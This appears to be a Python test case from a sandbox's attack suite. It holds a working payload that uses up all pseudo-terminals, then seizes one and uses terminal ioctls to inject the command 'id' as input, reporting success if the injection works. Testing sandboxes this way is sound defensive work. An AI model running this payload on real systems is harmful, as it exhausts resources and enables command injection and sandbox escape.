"""Opens terminals until there are none, and makes one its own."""

from __future__ import annotations

from tests.attacks.kit import RIGHT, Work

ANSWERS = RIGHT


def attack(work: Work) -> None:
    work.after("""
    import fcntl, os, pty, termios
    kept = []
    try:
        while True: kept += os.openpty()
    except OSError: pass
    if os.fork() == 0:
        os.setsid()
        fcntl.ioctl(kept[1], termios.TIOCSCTTY, 0)
        for call in (0x5412, 0x541C, 0x5410):
            try:
                fcntl.ioctl(kept[1], call, b"id\\n")
                if call != 0x5410: print("ATTACK-" + "SUCCEEDED", call, flush=True)
            except OSError: pass
        os._exit(0)
    os.wait()
    """)
